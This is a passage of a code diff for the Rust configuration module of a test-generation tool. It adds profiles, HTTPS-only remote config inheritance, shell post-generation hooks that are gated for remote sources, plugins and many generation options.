@@ -4,9 +4,174 @@
 //! and cascading configuration sources with environment variable overrides.
 
 use crate::error::{AutoTestError, Result};
+use crate::utils::log::status;
+use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
-use std::collections::HashMap;
+use std::collections::{BTreeMap, BTreeSet, HashMap};
 use std::path::{Path, PathBuf};
+
+/// Environment variable the CLI reads the config profile from when `--profile` isn't given.
+pub const PROFILE_ENV: &str = "AUTO_TEST_PROFILE";
+
+/// Serialization format of a configuration file.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum ConfigFormat {
+    Toml,
+    Yaml,
+}
+
+impl ConfigFormat {
+    fn from_path(path: &Path) -> Option<Self> {
+        match path.extension().and_then(|s| s.to_str()) {
+            Some("toml") => Some(Self::Toml),
+            Some("yaml") | Some("yml") => Some(Self::Yaml),
+            _ => None,
+        }
+    }
+
+    fn parse_value(self, contents: &str) -> std::result::Result<serde_json::Value, String> {
+        match self {
+            Self::Toml => toml::from_str(contents).map_err(|e| e.to_string()),
+            Self::Yaml => serde_yaml::from_str(contents).map_err(|e| e.to_string()),
+        }
+    }
+
+    fn name(self) -> &'static str {
+        match self {
+            Self::Toml => "TOML",
+            Self::Yaml => "YAML",
+        }
+    }
+
+    fn deserialize<T: serde::de::DeserializeOwned>(self, contents: &str) -> std::result::Result<T, String> {
+        match self {
+            Self::Toml => toml::from_str(contents).map_err(|e| e.to_string().trim_end().to_string()),
+            Self::Yaml => serde_yaml::from_str(contents).map_err(|e| e.to_string()),
+        }
+    }
+
+    fn to_string(self, value: &serde_json::Value) -> Result<String> {
+        match self {
+            Self::Toml => toml::to_string(value).map_err(|e| AutoTestError::InvalidConfig {
+                message: format!("TOML serialization error: {}", e),
+            }),
+            Self::Yaml => serde_yaml::to_string(value).map_err(|e| AutoTestError::InvalidConfig {
+                message: format!("YAML serialization error: {}", e),
+            }),
+        }
+    }
+}
+
+/// Where an `extends` entry points.
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum ExtendsSource {
+    /// A file on disk, resolved against the extending file's directory.
+    Local(PathBuf),
+    /// An HTTPS URL; `github:org/repo/path[@ref]` is mapped to raw.githubusercontent.com.
+    Remote(String),
+}
+
+impl ExtendsSource {
+    fn parse(spec: &str, base_dir: Option<&Path>) -> Result<Self> {
+        if let Some(rest) = spec.strip_prefix("github:") {
+            let (location, git_ref) = rest.rsplit_once('@').unwrap_or((rest, "HEAD"));
+            let mut parts = location.splitn(3, '/');
+            let (Some(owner), Some(repo), Some(file)) = (parts.next(), parts.next(), parts.next()) else {
+                return Err(AutoTestError::InvalidConfig {
+                    message: format!("Invalid `extends` '{}': expected github:<owner>/<repo>/<path>[@ref]", spec),
+                });
+            };
+            return Ok(Self::Remote(format!(
+                "https://raw.githubusercontent.com/{}/{}/{}/{}",
+                owner, repo, git_ref, file
+            )));
+        }
+        if spec.starts_with("https://") {
+            return Ok(Self::Remote(spec.to_string()));
+        }
+        // A base config can set `post_hooks` commands, so it isn't fetched over plain HTTP
+        if spec.starts_with("http://") {
+            return Err(AutoTestError::InvalidConfig {
+                message: format!("Insecure `extends` '{}': remote configs must use https://", spec),
+            });
+        }
+
+        let path = Path::new(spec);
+        if path.is_absolute() {
+            return Ok(Self::Local(path.to_path_buf()));
+        }
+        match base_dir {
+            Some(dir) => Ok(Self::Local(dir.join(path))),
+            None => Err(AutoTestError::InvalidConfig {
+                message: format!("Relative `extends` '{}' is not allowed in a remote config", spec),
+            }),
+        }
+    }
+
+    /// Canonical identity, used for cycle detection and format detection.
+    fn id(&self) -> String {
+        match self {
+            Self::Local(path) => path
+                .canonicalize()
+                .unwrap_or_else(|_| path.clone())
+                .to_string_lossy()
+                .to_string(),
+            Self::Remote(url) => url.clone(),
+        }
+    }
+
+    fn local_dir(&self) -> Option<PathBuf> {
+        match self {
+            Self::Local(path) => path.parent().map(Path::to_path_buf),
+            Self::Remote(_) => None,
+        }
+    }
+
+    fn fetch(&self) -> Result<String> {
+        match self {
+            Self::Local(path) => std::fs::read_to_string(path).map_err(|e| AutoTestError::FileRead {
+                path: path.clone(),
+                source: e,
+            }),
+            Self::Remote(url) => fetch_remote_config(url),
+        }
+    }
+}
+
+/// Seconds a remote `extends` config may take to download.
+#[cfg(feature = "remote-config")]
+const REMOTE_CONFIG_TIMEOUT_SECS: u64 = 30;
+
+/// Hook commands a remote base config may only set when the local file opts in
+/// with `allow_remote_hooks = true`, since they run through `sh -c`.
+const HOOK_KEYS: [&str; 2] = ["post_hooks", "post_run_hooks"];
+
+#[cfg(feature = "remote-config")]
+fn fetch_remote_config(url: &str) -> Result<String> {
+    let fail = |e: ureq::Error| AutoTestError::InvalidConfig {
+        message: format!("Failed to fetch extended config '{}': {}", url, e),
+    };
+    ureq::get(url)
+        .config()
+        .timeout_global(Some(std::time::Duration::from_secs(REMOTE_CONFIG_TIMEOUT_SECS)))
+        .build()
+        .call()
+        .map_err(fail)?
+        .body_mut()
+        .read_to_string()
+        .map_err(fail)
+}
+
+#[cfg(not(feature = "remote-config"))]
+fn fetch_remote_config(url: &str) -> Result<String> {
+    Err(AutoTestError::InvalidConfig {
+        message: format!(
+            "Cannot fetch extended config '{}': auto_test was built without the `remote-config` feature",
+            url
+        ),
+    })
+}
+
 /// Enhanced hierarchical configuration for GitOps-style workflows.
 ///
 /// Supports cascading configuration sources with environment override capabilities:
@@ -14,7 +179,7 @@ use std::path::{Path, PathBuf};
 /// 2. Project-specific config ({project}/.auto_test.{toml,yaml})
 /// 3. Environment variables (AUTO_TEST_*)
 /// 4. Inline overrides via CLI flags
-#[derive(Debug, Clone, Deserialize, Serialize)]
+#[derive(Debug, Clone, Deserialize, Serialize, JsonSchema)]
 #[serde(default)]
 pub struct Config {
     /// Project metadata for GitOps workflows
@@ -37,6 +202,14 @@ pub struct Config {
     #[serde(rename = "filesystem")]
     pub filesystem: FilesystemConfig,
 
+    /// WASM generator plugins
+    #[serde(rename = "plugins")]
+    pub plugins: PluginsConfig,
+
+    /// Per-module overrides keyed by module path, e.g. `[module."core::parser"]`
+    #[serde(rename = "module")]
+    pub modules: BTreeMap<String, ModuleConfig>,
+
     // Legacy fields for backward compatibility
     #[serde(skip)]
     pub output_dir: String,
@@ -56,9 +229,14 @@ pub struct Config {
     pub skip_patterns: Vec<String>,
     #[serde(skip)]
     pub timeout_seconds: u64,
+
+    /// Functions picked with `generate --interactive`, as (source file, name);
+    /// `None` keeps every function
+    #[serde(skip)]
+    pub selected_functions: Option<BTreeSet<(PathBuf, String)>>,
 }
 
-#[derive(Debug, Clone, Deserialize, Serialize)]
+#[derive(Debug, Clone, Deserialize, Serialize, JsonSchema)]
 #[serde(default)]
 pub struct ProjectConfig {
     /// Project name for telemetry and caching
@@ -79,11 +257,14 @@ impl Default for ProjectConfig {
     }
 }
 
-#[derive(Debug, Clone, Deserialize, Serialize)]
+#[derive(Debug, Clone, Deserialize, Serialize, JsonSchema)]
 #[serde(default)]
 pub struct GenerationConfig {
-    /// Test generation strategy: "integration", "unit", "property"
+    /// Test generation strategy: "integration", "unit", "property", "table"
     pub strategy: String,
+    /// How "table" strategy cases are written: "loop" (one test looping over a
+    /// `cases` table) or "test-case" (`#[test_case]` attributes on one function)
+    pub case_style: String,
     /// Directory where generated tests are written
     pub output_dir: String,
     /// Functions to skip during generation (patterns)
@@ -94,22 +275,178 @@ pub struct GenerationConfig {
     pub timeout_seconds: u64,
     /// Whether to include private functions
     pub include_private: bool,
+    /// Database test backend for pool/connection parameters: "sqlx" or "sqlite-memory"
+    pub database_backend: String,
+    /// Extra attributes injected into tests whose function matches a rule
+    pub attribute_rules: Vec<AttributeRule>,
+    /// Per-test timeout in seconds (`tokio::time::timeout` for async, `ntest::timeout` for sync)
+    pub test_timeout_secs: Option<u64>,
+    /// Emit setup shared by several test files into `tests/common/mod.rs`, and setup
+    /// shared by several tests of one file into helpers in that file
+    pub shared_fixtures: bool,
+    /// Generate `core`/`alloc`-only values; `None` detects `#![no_std]` in the crate root
+    pub no_std: Option<bool>,
+    /// Emit `#[wasm_bindgen_test]` tests; `None` detects wasm-bindgen cdylib crates
+    pub wasm_bindgen_test: Option<bool>,
+    /// Configure wasm-bindgen-test to run in a browser instead of Node.js
+    pub wasm_run_in_browser: bool,
+    /// Runtime of async tests: "tokio", "async-std", or "futures"/"pollster" (`block_on`
+    /// in a plain `#[test]`); `None` detects it from the crate's dependencies
+    pub async_runtime: Option<String>,
+    /// Rust edition of the crate under test, e.g. "2018"; `None` reads it from
+    /// Cargo.toml, where an unset edition means 2015
+    pub edition: Option<String>,
+    /// Arguments of generated `#[tokio::test]` attributes, e.g. `flavor = "multi_thread", worker_threads = 2`
+    pub tokio_test_args: Option<String>,
+    /// lcov or llvm-cov JSON report; only functions with zero coverage get tests
+    pub coverage_report: Option<String>,
+    /// cargo-mutants `outcomes.json`/`missed.txt`; functions with surviving mutants get a value comparison to fill in
+    pub mutants_report: Option<String>,
+    /// Analysis saved by `autotest analyze --save`, used instead of analyzing the sources
+    pub from_analysis: Option<String>,
+    /// Also analyze the macro-expanded crate, for functions generated by macros
+    pub expand: bool,
+    /// Only generate tests for the N most complex functions
+    pub max_tests: Option<usize>,
+    /// Also generate tests for functions the project's existing tests already call
+    pub include_covered: bool,
+    /// Output layout: "flat" (one file per module in output_dir) or "nested"
+    /// (`generated.rs` plus a `generated/<module>/` tree)
+    pub layout: String,
+    /// Where workspace members' tests go: "member" (each crate's own tests/) or
+    /// "workspace" (a central tests crate depending on every member)
+    pub output_scope: String,
+    /// Crate imported by generated tests; read from Cargo.toml when unset
+    pub crate_name: Option<String>,
+    /// Test function name with `{function}`, `{module}`, `{strategy}` and `{case}` placeholders
+    pub test_name_pattern: String,
+    /// Banner prepended to every generated file: inline text or a path relative to the project root
+    pub file_header: Option<String>,
+    /// Line endings of generated files: "lf", "crlf", or "native" (CRLF on Windows, LF elsewhere)
+    pub line_endings: String,
+    /// Fail on types that would only get `Default` guesses or TODO assertions
+    pub strict: bool,
+    /// JSON report with every function's outcome, relative to the project root; empty disables it
+    pub report_path: String,
+    /// Nextest profile written to `.config/nextest.toml` whose default filter selects the generated tests
+    pub nextest_profile: Option<String>,
+    /// JUnit XML with one testcase per analyzed function, relative to the project root
+    pub junit_report: Option<String>,
+    /// JSON manifest of the test files a run wrote, updated or skipped, with their
+    /// SHA-256 checksums, relative to the project root
+    pub manifest_path: Option<String>,
+    /// Prometheus textfile with the run's metrics (function counts, phase
+    /// durations), relative to the project root
+    pub metrics_path: Option<String>,
+    /// `generate --staged` only warns about staged functions without tests instead of failing
+    pub staged_warn_only: bool,
+    /// Shell commands run for every written test file, with `{file}` and `{project}` placeholders
+    pub post_hooks: Vec<String>,
+    /// Shell commands run once after the tests are written, with `{files}` and `{project}` placeholders
+    pub post_run_hooks: Vec<String>,
+    /// Seconds after which a hook command is killed and reported as failed
+    pub hook_timeout_secs: u64,
+}
+
+/// Rule adding extra attributes (e.g. `#[serial]`, `#[ignore = "network"]`) to generated tests.
+///
+/// A rule applies when every pattern it sets matches: `function_pattern` against the
+/// function name, `type_pattern` against any parameter or return type. Patterns are
+/// substring matches, like `skip_functions`.
+#[derive(Debug, Clone, Default, Deserialize, Serialize, JsonSchema)]
+#[serde(default)]
+pub struct AttributeRule {
+    /// Substring matched against the function name
+    pub function_pattern: Option<String>,
+    /// Substring matched against parameter and return types
+    pub type_pattern: Option<String>,
+    /// Attributes to emit above the generated test, verbatim
+    pub attributes: Vec<String>,
+}
+
+impl AttributeRule {
+    /// Check whether this rule applies to a function with the given name and types.
+    pub fn matches(&self, function_name: &str, types: &[&str]) -> bool {
+        if self.function_pattern.is_none() && self.type_pattern.is_none() {
+            return false;
+        }
+
+        let name_ok = self
+            .function_pattern
+            .as_ref()
+            .is_none_or(|pattern| function_name.contains(pattern.as_str()));
+        let type_ok = self
+            .type_pattern
+            .as_ref()
+            .is_none_or(|pattern| types.iter().any(|t| t.contains(pattern.as_str())));
+
+        name_ok && type_ok
+    }
 }
 
 impl Default for GenerationConfig {
     fn default() -> Self {
         Self {
             strategy: "integration".to_string(),
+            case_style: "loop".to_string(),
             output_dir: "tests".to_string(),
             skip_functions: Vec::new(),
             custom_assertions: HashMap::new(),
             timeout_seconds: 300,
             include_private: false,
+            database_backend: "sqlx".to_string(),
+            attribute_rules: Vec::new(),
+            test_timeout_secs: None,
+            shared_fixtures: true,
+            no_std: None,
+            wasm_bindgen_test: None,
+            wasm_run_in_browser: true,
+            async_runtime: None,
+            edition: None,
+            tokio_test_args: None,
+            coverage_report: None,
+            mutants_report: None,
+            from_analysis: None,
+            expand: false,
+            max_tests: None,
+            include_covered: false,
+            layout: "flat".to_string(),
+            output_scope: "member".to_string(),
+            crate_name: None,
+            test_name_pattern: "test_{module}_{function}_{strategy}".to_string(),
+            file_header: None,
+            line_endings: "lf".to_string(),
+            strict: false,
+            report_path: "target/autotest-report.json".to_string(),
+            nextest_profile: None,
+            junit_report: None,
+            manifest_path: None,
+            metrics_path: None,
+            staged_warn_only: false,
+            post_hooks: Vec::new(),
+            post_run_hooks: Vec::new(),
+            hook_timeout_secs: 60,
         }
     }
 }
 
-#[derive(Debug, Clone, Deserialize, Serialize)]
+/// Overrides for one module and its submodules, from `[module."<path>"]`.
+///
+/// The most specific matching section applies; `crate` names the crate root.
+#[derive(Debug, Clone, Default, Deserialize, Serialize, JsonSchema)]
+#[serde(default)]
+pub struct ModuleConfig {
+    /// Output directory for this module's tests
+    pub output_dir: Option<String>,
+    /// Generation strategy for this module: "integration", "unit", "property", "table"
+    pub strategy: Option<String>,
+    /// Additional function skip patterns
+    pub skip_functions: Vec<String>,
+    /// Type mappings layered over `[types.mappings]`
+    pub type_mappings: HashMap<String, String>,
+}
+
+#[derive(Debug, Clone, Deserialize, Serialize, JsonSchema)]
 #[serde(default)]
 pub struct TypeConfig {
     /// Custom type constructors and mappings
@@ -134,15 +471,21 @@ impl Default for TypeConfig {
     }
 }
 
-#[derive(Debug, Clone, Deserialize, Serialize)]
+#[derive(Debug, Clone, Deserialize, Serialize, JsonSchema)]
 #[serde(default)]
 pub struct PerformanceConfig {
     /// Parallel processing enablement
     pub parallel: bool,
-    /// Maximum functions processed in parallel
+    /// Worker threads for generation and writing; unset or 0 uses one per CPU
+    pub threads: Option<usize>,
+    /// Least number of functions a worker renders at a time; 0 lets work
+    /// stealing split the work down to single functions
     pub parallel_chunk_size: usize,
     /// Memory limit in MB for bounded processing
     pub memory_limit_mb: Option<usize>,
+    /// Source files of at least this many KB are memory-mapped for parsing
+    /// instead of read onto the heap; unset reads every file
+    pub mmap_threshold_kb: Option<u64>,
     /// Enable result caching
     pub caching_enabled: bool,
 }
@@ -151,20 +494,25 @@ impl Default for PerformanceConfig {
     fn default() -> Self {
         Self {
             parallel: true,
-            parallel_chunk_size: 25,
+            threads: None,
+            parallel_chunk_size: 0,
             memory_limit_mb: None,
+            mmap_threshold_kb: None,
             caching_enabled: false,
         }
     }
 }
 
-#[derive(Debug, Clone, Deserialize, Serialize)]
+#[derive(Debug, Clone, Deserialize, Serialize, JsonSchema)]
 #[serde(default)]
 pub struct FilesystemConfig {
     /// Respect .gitignore patterns
     pub respect_gitignore: bool,
     /// Additional file patterns to skip
     pub skip_patterns: Vec<String>,
+    /// Follow symbolic links during discovery instead of skipping them; links
+    /// that loop back to an ancestor directory are reported and not entered
+    pub follow_symlinks: bool,
 }
 
 impl Default for FilesystemConfig {
@@ -176,6 +524,25 @@ impl Default for FilesystemConfig {
                 "**/.git/**".to_string(),
                 "**/node_modules/**".to_string(),
             ],
+            follow_symlinks: false,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Deserialize, Serialize, JsonSchema)]
+#[serde(default)]
+pub struct PluginsConfig {
+    /// Directory scanned for `*.wasm` plugins, relative to the project root
+    pub dir: String,
+    /// Additional plugin modules, relative to the project root
+    pub paths: Vec<String>,
+}
+
+impl Default for PluginsConfig {
+    fn default() -> Self {
+        Self {
+            dir: "plugins".to_string(),
+            paths: Vec::new(),
         }
     }
 }
@@ -203,7 +570,7 @@ impl Default for LegacyConfig {
             type_mappings: HashMap::new(),
             include_private: false,
             parallel: true,
-            parallel_chunk_size: 25,
+            parallel_chunk_size: 0,
             respect_gitignore: true,
             skip_patterns: vec![
                 "**/target/**".to_string(),
@@ -227,6 +594,7 @@ impl From<LegacyConfig> for Config {
                 custom_assertions: HashMap::new(),
                 timeout_seconds: legacy.timeout_seconds,
                 include_private: legacy.include_private,
+                ..GenerationConfig::default()
             },
             types: TypeConfig {
                 mappings: legacy.type_mappings.clone(),
@@ -235,14 +603,19 @@ impl From<LegacyConfig> for Config {
             },
             performance: PerformanceConfig {
                 parallel: legacy.parallel,
+                threads: None,
                 parallel_chunk_size: legacy.parallel_chunk_size,
                 memory_limit_mb: None,
+                mmap_threshold_kb: None,
                 caching_enabled: false,
             },
             filesystem: FilesystemConfig {
                 respect_gitignore: legacy.respect_gitignore,
                 skip_patterns: legacy.skip_patterns.clone(),
+                follow_symlinks: false,
             },
+            plugins: PluginsConfig::default(),
+            modules: BTreeMap::new(),
             // Legacy fields preserved
             output_dir: legacy.output_dir,
             skip_functions: legacy.skip_functions,
@@ -253,6 +626,7 @@ impl From<LegacyConfig> for Config {
             respect_gitignore: legacy.respect_gitignore,
             skip_patterns: legacy.skip_patterns,
             timeout_seconds: legacy.timeout_seconds,
+            selected_functions: None,
         }
     }
 }
@@ -265,13 +639,15 @@ impl Default for Config {
             types: TypeConfig::default(),
             performance: PerformanceConfig::default(),
             filesystem: FilesystemConfig::default(),
+            plugins: PluginsConfig::default(),
+            modules: BTreeMap::new(),
             // Legacy fields
             output_dir: "tests".to_string(),
             skip_functions: Vec::new(),
             type_mappings: HashMap::new(),
             include_private: false,
             parallel: true,
-            parallel_chunk_size: 25,
+            parallel_chunk_size: 0,
             respect_gitignore: true,
             skip_patterns: vec![
                 "**/target/**".to_string(),
@@ -279,6 +655,7 @@ impl Default for Config {
                 "**/node_modules/**".to_string(),
             ],
             timeout_seconds: 300,
+            selected_functions: None,
         }
     }
 }
@@ -301,16 +678,30 @@ impl Config {
     ///
     /// The loaded configuration, or an error if loading fails
     pub fn load(project_root: &Path) -> Result<Self> {
+        Self::load_with_profile(project_root, None)
+    }
+
+    /// Load configuration from a project root, applying a named profile.
+    ///
+    /// # Arguments
+    ///
+    /// * `project_root` - Path to the project root directory
+    /// * `profile` - Profile to apply, if any
+    ///
+    /// # Returns
+    ///
+    /// The loaded configuration, or an error if loading fails or the profile doesn't exist
+    pub fn load_with_profile(project_root: &Path, profile: Option<&str>) -> Result<Self> {
         // Try TOML first
         let toml_path = project_root.join("auto_test.toml");
         if toml_path.exists() {
-            return Self::load_from_file(&toml_path);
+            return Self::load_from_file_with_profile(&toml_path, profile);
         }
 
         // Try YAML
         let yaml_path = project_root.join("auto_test.yaml");
         if yaml_path.exists() {
-            return Self::load_from_file(&yaml_path);
+            return Self::load_from_file_with_profile(&yaml_path, profile);
         }
 
         // Fall back to defaults
@@ -330,62 +721,316 @@ impl Config {
     ///
     /// The loaded configuration, or an error if loading fails
     pub fn load_from_file(path: &Path) -> Result<Self> {
+        Self::load_from_file_with_profile(path, None)
+    }
+
+    /// Parse a configuration from JSON with the same layout as `auto_test.toml`,
+    /// e.g. one passed in by an editor integration. Missing keys take their defaults.
+    ///
+    /// # Arguments
+    ///
+    /// * `json` - The configuration as a JSON object
+    ///
+    /// # Returns
+    ///
+    /// The configuration, or an error if the JSON doesn't match the layout
+    pub fn from_json(json: &str) -> Result<Self> {
+        let config: Self = serde_json::from_str(json).map_err(|e| AutoTestError::InvalidConfig {
+            message: format!("invalid JSON configuration: {}", e),
+        })?;
+        Ok(config.sync_legacy_fields())
+    }
+
+    /// Load configuration from a specific file path, applying a named profile.
+    ///
+    /// Profiles live under `[profile.<name>]` and mirror the top-level layout;
+    /// their tables are merged key by key over the base configuration, while
+    /// scalars and arrays replace the base value.
+    ///
+    /// # Arguments
+    ///
+    /// * `path` - Path to the configuration file
+    /// * `profile` - Profile to apply, if any
+    ///
+    /// # Returns
+    ///
+    /// The loaded configuration, or an error if loading fails or the profile doesn't exist
+    pub fn load_from_file_with_profile(path: &Path, profile: Option<&str>) -> Result<Self> {
+        let format = ConfigFormat::from_path(path).ok_or_else(|| AutoTestError::InvalidConfig {
+            message: "Unsupported configuration file format. Use .toml or .yaml".to_string(),
+        })?;
+
         let contents = std::fs::read_to_string(path)
             .map_err(|e| AutoTestError::FileRead {
                 path: path.to_path_buf(),
                 source: e,
             })?;
 
-        let config = match path.extension().and_then(|s| s.to_str()) {
-            Some("toml") => {
-                Self::load_toml_with_fallback(&contents)?
-            }
-            Some("yaml") | Some("yml") => {
-                Self::load_yaml_with_fallback(&contents)?
+        // Files without `extends` or profiles are parsed as written; otherwise the
+        // merged document is re-serialized and parsed the same way
+        let contents = match format.parse_value(&contents) {
+            Ok(mut value) => {
+                let has_extends = value.get("extends").is_some();
+                if has_extends || value.get("profile").is_some() || profile.is_some() {
+                    if has_extends {
+                        let id = path
+                            .canonicalize()
+                            .unwrap_or_else(|_| path.to_path_buf())
+                            .to_string_lossy()
+                            .to_string();
+                        let remote_hooks = value
+                            .get("allow_remote_hooks")
+                            .and_then(serde_json::Value::as_bool)
+                            .unwrap_or(false);
+                        value = Self::resolve_extends(value, &id, path.parent(), &mut Vec::new(), remote_hooks)?;
+                    }
+                    Self::apply_profile(&mut value, profile)?;
+                    format.to_string(&value)?
+                } else {
+                    contents
+                }
             }
-            _ => return Err(AutoTestError::InvalidConfig {
-                message: "Unsupported configuration file format. Use .toml or .yaml".to_string(),
-            }),
+            // Let the regular parse report the syntax error
+            Err(_) => contents,
         };
 
+        let config = Self::parse_with_fallback(format, &contents).map_err(|e| match e {
+            AutoTestError::InvalidConfig { message } => AutoTestError::InvalidConfig {
+                message: format!("{}: {}", path.display(), message),
+            },
+            other => other,
+        })?;
+
         // Sync legacy fields with hierarchical structure
         Ok(config.sync_legacy_fields())
     }
 
-    /// Load TOML content, trying legacy first then upgrading to hierarchical format
-    fn load_toml_with_fallback(contents: &str) -> Result<Self> {
-        // Try legacy format first for backward compatibility
-        if let Ok(legacy) = toml::from_str::<LegacyConfig>(contents) {
-            return Ok(legacy.into());
+    /// Replace `extends` with the merged contents of the configs it names.
+    ///
+    /// Bases are merged in the order listed, each after resolving its own
+    /// `extends`, and the extending document is merged last so its values win.
+    /// Hook commands from remote bases are dropped unless `remote_hooks` is set.
+    ///
+    /// # Arguments
+    ///
+    /// * `value` - The parsed document containing `extends`
+    /// * `id` - Canonical path or URL of the document, for cycle detection
+    /// * `base_dir` - Directory relative paths are resolved against (`None` for remote configs)
+    /// * `chain` - Documents currently being resolved
+    /// * `remote_hooks` - Whether the local file allows hooks from remote bases
+    fn resolve_extends(
+        mut value: serde_json::Value,
+        id: &str,
+        base_dir: Option<&Path>,
+        chain: &mut Vec<String>,
+        remote_hooks: bool,
+    ) -> Result<serde_json::Value> {
+        let extends = value
+            .as_object_mut()
+            .and_then(|root| root.remove("extends"))
+            .unwrap_or(serde_json::Value::Null);
+        let specs: Vec<String> = match extends {
+            serde_json::Value::Null => Vec::new(),
+            serde_json::Value::String(spec) => vec![spec],
+            serde_json::Value::Array(items) => items
+                .into_iter()
+                .map(|item| match item {
+                    serde_json::Value::String(spec) => Ok(spec),
+                    other => Err(AutoTestError::InvalidConfig {
+                        message: format!("`extends` entries must be strings, found {}", other),
+                    }),
+                })
+                .collect::<Result<_>>()?,
+            other => {
+                return Err(AutoTestError::InvalidConfig {
+                    message: format!("`extends` must be a string or a list of strings, found {}", other),
+                })
+            }
+        };
+
+        chain.push(id.to_string());
+        let mut merged = serde_json::Value::Object(serde_json::Map::new());
+        for spec in specs {
+            let source = ExtendsSource::parse(&spec, base_dir)?;
+            let parent_id = source.id();
+            if chain.contains(&parent_id) {
+                return Err(AutoTestError::InvalidConfig {
+                    message: format!("Config `extends` cycle: {} -> {}", chain.join(" -> "), parent_id),
+                });
+            }
+
+            let format = ConfigFormat::from_path(Path::new(&parent_id)).unwrap_or(ConfigFormat::Toml);
+            let parent = format.parse_value(&source.fetch()?).map_err(|e| AutoTestError::InvalidConfig {
+                message: format!("Failed to parse extended config '{}': {}", parent_id, e),
+            })?;
+            let parent_dir = source.local_dir();
+            let mut parent = Self::resolve_extends(parent, &parent_id, parent_dir.as_deref(), chain, remote_hooks)?;
+            // Only the local file can opt in to hooks from remote bases
+            if let Some(root) = parent.as_object_mut() {
+                root.remove("allow_remote_hooks");
+            }
+            if matches!(source, ExtendsSource::Remote(_)) && !remote_hooks {
+                for key in Self::strip_hooks(&mut parent) {
+                    status!(
+                        "Warning: ignoring `{}` from remote config '{}'; set `allow_remote_hooks = true` to run it",
+                        key, parent_id
+                    );
+                }
+            }
+            Self::merge_values(&mut merged, parent);
+        }
+        chain.pop();
+
+        Self::merge_values(&mut merged, value);
+        Ok(merged)
+    }
+
+    /// Remove the hook commands of a config document, including those of its
+    /// profiles.
+    ///
+    /// # Returns
+    ///
+    /// The removed keys, e.g. `generation.post_hooks`
+    fn strip_hooks(value: &mut serde_json::Value) -> Vec<String> {
+        let mut removed = Vec::new();
+        let mut strip = |value: &mut serde_json::Value, prefix: &str| {
+            if let Some(generation) = value.get_mut("generation").and_then(|g| g.as_object_mut()) {
+                for key in HOOK_KEYS {
+                    if generation.remove(key).is_some() {
+                        removed.push(format!("{}generation.{}", prefix, key));
+                    }
+                }
+            }
+        };
+        strip(value, "");
+        if let Some(profiles) = value.get_mut("profile").and_then(|p| p.as_object_mut()) {
+            for (name, profile) in profiles {
+                strip(profile, &format!("profile.{}.", name));
+            }
+        }
+        removed
+    }
+
+    /// Deep-merge `overlay` into `base`: objects merge key by key, anything else
+    /// in the overlay replaces the base value.
+    fn merge_values(base: &mut serde_json::Value, overlay: serde_json::Value) {
+        match (base, overlay) {
+            (serde_json::Value::Object(base), serde_json::Value::Object(overlay)) => {
+                for (key, value) in overlay {
+                    match base.get_mut(&key) {
+                        Some(existing) => Self::merge_values(existing, value),
+                        None => {
+                            base.insert(key, value);
+                        }
+                    }
+                }
+            }
+            (base, overlay) => *base = overlay,
         }
+    }
+
+    /// Strip the `profile` table from a parsed config and merge the selected
+    /// profile over the rest.
+    fn apply_profile(value: &mut serde_json::Value, profile: Option<&str>) -> Result<()> {
+        let profiles = value.as_object_mut().and_then(|root| root.remove("profile"));
 
-        // Try hierarchical format for new configs
-        if let Ok(config) = toml::from_str::<Self>(contents) {
-            return Ok(config);
+        if let Some(name) = profile {
+            let overlay = profiles
+                .as_ref()
+                .and_then(|p| p.get(name))
+                .cloned()
+                .ok_or_else(|| {
+                    let available: Vec<&str> = profiles
+                        .as_ref()
+                        .and_then(|p| p.as_object())
+                        .map(|p| p.keys().map(String::as_str).collect())
+                        .unwrap_or_default();
+                    AutoTestError::InvalidConfig {
+                        message: format!(
+                            "Unknown config profile '{}' (available: {})",
+                            name,
+                            if available.is_empty() { "none".to_string() } else { available.join(", ") }
+                        ),
+                    }
+                })?;
+            Self::merge_values(value, overlay);
         }
 
-        // Parse error
-        Err(AutoTestError::InvalidConfig {
-            message: "Invalid TOML configuration format".to_string(),
-        })
+        Ok(())
     }
 
-    /// Load YAML content, trying legacy first then upgrading to hierarchical format
-    fn load_yaml_with_fallback(contents: &str) -> Result<Self> {
-        // Try legacy format first for backward compatibility
-        if let Ok(legacy) = serde_yaml::from_str::<LegacyConfig>(contents) {
-            return Ok(legacy.into());
+    /// Parse config content in either layout.
+    ///
+    /// Documents that only use legacy flat keys are parsed as [`LegacyConfig`];
+    /// everything else is parsed as the hierarchical format. Mixed documents
+    /// fall back to the legacy layout with a warning if the hierarchical parse
+    /// fails, and report both errors when neither layout parses.
+    fn parse_with_fallback(format: ConfigFormat, contents: &str) -> Result<Self> {
+        let value = format.parse_value(contents).map_err(|e| AutoTestError::InvalidConfig {
+            message: format!("Invalid {} syntax: {}", format.name(), e),
+        })?;
+
+        let keys: Vec<&str> = value
+            .as_object()
+            .map(|root| root.keys().map(String::as_str).collect())
+            .unwrap_or_default();
+        let legacy_keys: Vec<&str> = keys
+            .iter()
+            .copied()
+            .filter(|key| LEGACY_KEYS.iter().any(|(legacy, _)| legacy == key))
+            .collect();
+        let has_sections = keys.len() > legacy_keys.len();
+
+        if !legacy_keys.is_empty() && !has_sections {
+            return format
+                .deserialize::<LegacyConfig>(contents)
+                .map(Into::into)
+                .map_err(|e| AutoTestError::InvalidConfig {
+                    message: format!("Invalid legacy {} configuration: {}", format.name(), e),
+                });
         }
 
-        // Try hierarchical format for new configs
-        if let Ok(config) = serde_yaml::from_str::<Self>(contents) {
-            return Ok(config);
+        let hierarchical_error = match format.deserialize::<Self>(contents) {
+            Ok(config) => {
+                for key in legacy_keys {
+                    let replacement = LEGACY_KEYS
+                        .iter()
+                        .find(|(legacy, _)| *legacy == key)
+                        .map_or("", |(_, replacement)| replacement);
+                    status!(
+                        "Warning: legacy config key `{}` is ignored next to hierarchical sections; use `{}` instead",
+                        key, replacement
+                    );
+                }
+                return Ok(config);
+            }
+            Err(e) => e,
+        };
+
+        // Without legacy keys the legacy layout would only yield defaults
+        if legacy_keys.is_empty() {
+            return Err(AutoTestError::InvalidConfig {
+                message: format!("Invalid {} configuration: {}", format.name(), hierarchical_error),
+            });
         }
 
-        // Parse error
-        Err(AutoTestError::InvalidConfig {
-            message: "Invalid YAML configuration format".to_string(),
-        })
+        match format.deserialize::<LegacyConfig>(contents) {
+            Ok(legacy) => {
+                status!(
+                    "Warning: config parsed in the legacy flat format because the hierarchical format failed: {}",
+                    hierarchical_error
+                );
+                Ok(legacy.into())
+            }
+            Err(legacy_error) => Err(AutoTestError::InvalidConfig {
+                message: format!(
